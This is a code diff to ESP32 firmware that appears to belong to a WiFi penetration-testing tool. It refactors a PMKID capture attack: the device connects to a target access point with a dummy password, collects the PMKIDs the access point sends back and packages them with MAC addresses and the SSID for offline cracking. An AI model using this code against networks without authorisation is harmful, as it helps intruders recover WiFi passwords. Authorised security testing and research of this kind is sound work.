@@ -11,6 +11,7 @@
 
 #include "attack_pmkid.h"
 
+#include <stdlib.h>
 #include <string.h>
 #define LOG_LOCAL_LEVEL ESP_LOG_VERBOSE
 #include "esp_log.h"
@@ -37,10 +38,7 @@ static const wifi_ap_record_t *ap_record = NULL;
  * @param event_data expexcts pmkid_item_t *
  */
 static void pmkid_exit_condition_handler(void *args, esp_event_base_t event_base, int32_t event_id, void *event_data) {
-    /*ESP_LOGD(TAG, "Got PMKID, stopping attack...");
-    attack_update_status(FINISHED);
-    attack_pmkid_stop();
-    
+    ESP_LOGD(TAG, "Got PMKID, stopping attack...");
     pmkid_item_t *pmkid_item_head = *(pmkid_item_t **) event_data;
     // count how many PMKIDs in the list
     pmkid_item_t *pmkid_item = pmkid_item_head;
@@ -51,6 +49,15 @@ static void pmkid_exit_condition_handler(void *args, esp_event_base_t event_base
 
     // MAC_STA + MAC_AP + SSID size + SSID + PMKID * count
     char *content = attack_alloc_result_content(6 + 6 + 1 + strlen((char *) ap_record->ssid) + (pmkid_item_count * 16));
+    if(content == NULL){
+        while(pmkid_item_head != NULL){
+            pmkid_item = pmkid_item_head->next;
+            free(pmkid_item_head);
+            pmkid_item_head = pmkid_item;
+        }
+        attack_stop(FINISHED);
+        return;
+    }
     wifictl_get_sta_mac((uint8_t *) content);
     content += 6;
     memcpy(content, ap_record->bssid, 6);
@@ -69,24 +76,28 @@ static void pmkid_exit_condition_handler(void *args, esp_event_base_t event_base
         pmkid_item = pmkid_item->next;
         free(pmkid_item_head);
     } while(pmkid_item != NULL);
-    */
+    // result content becomes visible together with FINISHED state
+    attack_stop(FINISHED);
     ESP_LOGD(TAG, "PMKID attack finished");
 }
 
-void attack_pmkid_start(attack_config_t *attack_config){
-    ESP_LOGI(TAG, "Starting PMKID attack...");
-    //TODO ap_record = attack_config->ap_record;
-    wifictl_sniffer_filter_frame_types(true, false, false);
-    wifictl_sniffer_start(ap_record->primary);
-    frame_analyzer_capture_start(SEARCH_PMKID, ap_record->bssid);
+static void attack_pmkid_start(const attack_config_t *attack_config){
+    ap_record = attack_config->ap_records[0];
     wifictl_sta_connect_to_ap(ap_record, "dummypassword");
-    ESP_ERROR_CHECK(esp_event_handler_register(FRAME_ANALYZER_EVENTS, DATA_FRAME_EVENT_PMKID, &pmkid_exit_condition_handler, NULL));
 }
 
-void attack_pmkid_stop(){
+static void attack_pmkid_stop(){
     wifictl_sta_disconnect();
-    wifictl_sniffer_stop();
-    frame_analyzer_capture_stop();
-    ESP_ERROR_CHECK(esp_event_handler_unregister(ESP_EVENT_ANY_BASE, ESP_EVENT_ANY_ID, &pmkid_exit_condition_handler));
+    ap_record = NULL;
     ESP_LOGD(TAG, "PMKID attack stopped");
-}
\ No newline at end of file
+}
+
+const attack_ops_t attack_pmkid_ops = {
+    .name = "PMKID",
+    .resources = ATTACK_RESOURCE_SNIFFER | ATTACK_RESOURCE_EVENT_HANDLER,
+    .search = SEARCH_PMKID,
+    .event_id = DATA_FRAME_EVENT_PMKID,
+    .event_handler = &pmkid_exit_condition_handler,
+    .start = &attack_pmkid_start,
+    .stop = &attack_pmkid_stop
+};